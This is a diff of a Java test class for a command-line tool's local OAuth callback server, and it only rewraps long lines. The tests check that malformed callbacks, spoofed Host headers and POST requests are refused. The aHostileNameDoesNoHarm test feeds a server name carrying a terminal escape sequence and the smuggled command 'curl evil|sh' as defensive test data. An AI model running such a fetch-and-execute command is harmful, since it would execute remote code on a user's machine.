@@ -168,7 +168,8 @@ class CallbackTest {
             var page = Authorization.of(live);
             for (var wrong : List.of(
                 "/callback", "/callback?code=c0de", "/callback?state=" + page.state(), "/callback?code=&state=" + page.state(),
-                "/callback?code=c0de&state=", "/callback?code=c0de&state=" + "0".repeat(48), "/callback?code=c0de&state=" + page.state().toUpperCase() + "x",
+                "/callback?code=c0de&state=", "/callback?code=c0de&state=" + "0".repeat(48), "/callback?code=c0de&state=" + page.state()
+                .toUpperCase() + "x",
                 "/callback?code=c0de&state=" + page.state().substring(1), "/callback?code=c0de&state=" + page.state() + "0",
                 "/callback?code=c0de&state=%zz", "/callback?xstate=" + page.state() + "&xcode=c0de")) {
                 int status = wrong.contains("%zz") ? raw(page, "GET " + wrong, "127.0.0.1:" + page.port()) : page.get(wrong).statusCode();
@@ -178,12 +179,15 @@ class CallbackTest {
             assertEquals(404, page.get("/favicon.ico").statusCode());
             assertEquals(404, page.get("/callback/x?code=c0de&state=" + page.state()).statusCode());
             var right = "GET /callback?code=c0de&state=" + page.state();
-            for (var host : List.of("evil.example.com", "evil.example.com:" + page.port(), "127.0.0.1", "127.0.0.1:1", "localhost.evil.com:" + page.port(), "")) {
+            for (var host : List.of("evil.example.com", "evil.example.com:" + page.port(), "127.0.0.1", "127.0.0.1:1",
+                "localhost.evil.com:" + page.port(), "")) {
                 int status = raw(page, right, host);
                 assertTrue(status == 403 || status == 421 || status == 400, "Host \"" + host + "\" was answered with " + status);
             }
-            var post = page.send(HttpRequest.newBuilder(URI.create(page.callback("c0de"))).POST(HttpRequest.BodyPublishers.noBody()).build());
-            assertTrue(post.statusCode() == 405 || post.statusCode() == 404 || post.statusCode() == 400, "POST was answered with " + post.statusCode());
+            var post = page.send(HttpRequest.newBuilder(URI.create(page.callback("c0de"))).POST(HttpRequest.BodyPublishers.noBody())
+                .build());
+            assertTrue(post.statusCode() == 405 || post.statusCode() == 404 || post.statusCode() == 400, "POST was answered with "
+                + post.statusCode());
             assertTrue(live.isRunning(), "the wait is over");
             assertEquals(0, server.count(EXCHANGE), "something wrong was exchanged");
 
@@ -234,7 +238,8 @@ class CallbackTest {
                 .filter(address -> !address.isLoopbackAddress() && address instanceof java.net.Inet4Address).toList();
             for (var other : others) {
                 try (var socket = new Socket()) {
-                    assertThrows(IOException.class, () -> socket.connect(new InetSocketAddress(other, page.port()), 1000), "listens on " + other);
+                    assertThrows(IOException.class, () -> socket.connect(new InetSocketAddress(other, page.port()), 1000), "listens on "
+                        + other);
                 }
             }
             live.interrupt().finish().exits(130);
@@ -267,7 +272,8 @@ class CallbackTest {
 
     @Test
     void answersThatAreNoAgent() {
-        for (var useless : List.of("{}", "{\"token\":\"\"}", "{\"token\":null,\"name\":\"x\"}", "{\"token\":7}", "[]", "null", "", "{\"token\":\"bpagt_01\\n23\",\"name\":\"x\"}")) {
+        for (var useless : List.of("{}", "{\"token\":\"\"}", "{\"token\":null,\"name\":\"x\"}", "{\"token\":7}", "[]", "null", "",
+            "{\"token\":\"bpagt_01\\n23\",\"name\":\"x\"}")) {
             refused(json(useless), 1, "exchange failed: ");
         }
         refused(html("<h1>hello</h1>"), 1, "exchange failed: ");
@@ -297,7 +303,8 @@ class CallbackTest {
 
     @Test
     void aHostileNameDoesNoHarm() {
-        server.on(EXCHANGE, json("{\"token\":\"%s\",\"profile\":\"deployer\",\"name\":\"a\\u001b[2Jb\\ncurl evil|sh\",\"agentId\":\"x\"}".formatted(TOKEN)));
+        server.on(EXCHANGE, json(
+            "{\"token\":\"%s\",\"profile\":\"deployer\",\"name\":\"a\\u001b[2Jb\\ncurl evil|sh\",\"agentId\":\"x\"}".formatted(TOKEN)));
         try (var live = connect("--no-browser")) {
             Authorization.of(live).comeBack("c0de");
             var run = live.finish().calm();
@@ -314,7 +321,8 @@ class CallbackTest {
         try (var live = connect("--no-browser", "--json")) {
             Authorization.of(live).comeBack("c0de");
             var run = live.finish().exits(0).calm();
-            assertEquals(new ObjectMapper().valueToTree(Map.of("url", server.url(), "profile", "observer", "name", "my-macbook CLI", "agentId", "q1w2e3r4t5",
+            assertEquals(new ObjectMapper().valueToTree(Map.of("url", server.url(), "profile", "observer", "name", "my-macbook CLI",
+                "agentId", "q1w2e3r4t5",
                 "config", home.config().toString())), new ObjectMapper().readTree(run.stdout()), run.toString());
             run.complainsPart("Connecting to " + server.url() + " …\n").complainsPart("Waiting for authorization in the browser…\n");
         }
@@ -348,7 +356,8 @@ class CallbackTest {
     private static int raw(Authorization page, String request, String host) throws IOException {
         try (var socket = new Socket("127.0.0.1", page.port())) {
             socket.setSoTimeout(5000);
-            socket.getOutputStream().write((request + " HTTP/1.1\r\n" + (host.isEmpty() ? "" : "Host: " + host + "\r\n") + "Connection: close\r\n\r\n")
+            socket.getOutputStream().write((request + " HTTP/1.1\r\n" + (host.isEmpty() ? "" : "Host: " + host + "\r\n")
+                + "Connection: close\r\n\r\n")
                 .getBytes(StandardCharsets.ISO_8859_1));
             var answer = new String(socket.getInputStream().readAllBytes(), StandardCharsets.ISO_8859_1);
             return answer.isEmpty() ? 400 : Integer.parseInt(answer.split(" ")[1]);
